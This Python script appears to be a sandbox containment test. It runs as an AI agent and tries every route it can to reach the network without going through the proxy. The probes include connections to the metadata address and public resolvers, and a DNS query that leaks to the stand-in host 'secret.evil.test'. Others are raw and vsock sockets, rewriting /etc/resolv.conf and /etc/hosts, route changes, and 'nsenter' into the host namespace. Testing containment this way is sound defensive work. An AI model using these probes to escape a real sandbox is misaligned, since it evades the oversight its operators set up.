# Runs inside a sandbox, as the agent, and tries to say something to the world that does not go through the proxy. Takes addresses and ports
# of traps on the host, as address:port, and prints what came of each way as one JSON object.
import errno, json, os, socket, struct, subprocess, sys

traps = [(one.rpartition(":")[0], int(one.rpartition(":")[2])) for one in sys.argv[1:]]
elsewhere = [("10.0.0.1", 80), ("8.8.8.8", 53), ("1.1.1.1", 443), ("169.254.169.254", 80), ("192.168.1.1", 80)]
elsewhere += [("fd00:ec2::254", 80), ("2606:4700::1111", 443), ("fe80::1%lo", 80), ("ff02::1", 5353)]
found = {}


def attempt(name, act):
    try:
        act()
        found[name] = "ok"
    except OSError as error:
        found[name] = errno.errorcode.get(error.errno, str(error))
    except Exception as error:
        found[name] = type(error).__name__


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def tcp(address, port):
    with socket.socket(family(address), socket.SOCK_STREAM) as one:
        one.settimeout(3)
        one.connect(socket.getaddrinfo(address, port, type=socket.SOCK_STREAM)[0][4])


def fast_open(address, port):
    with socket.socket(family(address), socket.SOCK_STREAM) as one:
        one.settimeout(3)
        one.sendto(b"x", socket.MSG_FASTOPEN, (address, port))


def udp(address, port):
    with socket.socket(family(address), socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        # A question about a name, as a resolver asks it.
        query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"
        one.sendto(query, socket.getaddrinfo(address, port, type=socket.SOCK_DGRAM)[0][4])


def raw(kind, protocol, af=socket.AF_INET, to=("10.0.0.1", 0)):
    with socket.socket(af, kind, protocol) as one:
        one.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", to)


def run(command):
    subprocess.run(command, shell=True, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)


for address, port in traps + elsewhere:
    for way in (tcp, fast_open, udp):
        attempt(f"{way.__name__} {address} {port}", lambda: way(address, port))
attempt("ping", lambda: raw(socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
attempt("raw icmp", lambda: raw(socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("raw ip", lambda: raw(socket.SOCK_RAW, socket.IPPROTO_RAW))
attempt("raw icmp6", lambda: raw(socket.SOCK_RAW, socket.IPPROTO_ICMPV6, socket.AF_INET6, ("fe80::1", 0)))
attempt("packet", lambda: raw(socket.SOCK_RAW, 0x0300, socket.AF_PACKET, ("lo", 0)))
attempt("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("10.0.0.1", 80)))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1024)))
attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW, 1).bind((0,)))
attempt("look-up", lambda: socket.getaddrinfo("secret.evil.test", 443))
attempt("resolv.conf", lambda: open("/etc/resolv.conf", "a").write("nameserver 10.0.0.1\n"))
attempt("hosts", lambda: open("/etc/hosts", "a").write("10.0.0.1 evil.test\n"))
attempt("address", lambda: run("ip addr add 10.0.0.2/24 dev lo"))
attempt("route", lambda: run("ip route add default dev lo"))
attempt("link", lambda: run("ip link add veth0 type veth peer name veth1"))
attempt("tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
attempt("namespace", lambda: run("unshare -Urn true"))
attempt("host namespace", lambda: run("nsenter -t 1 -n true"))
print(json.dumps(found))
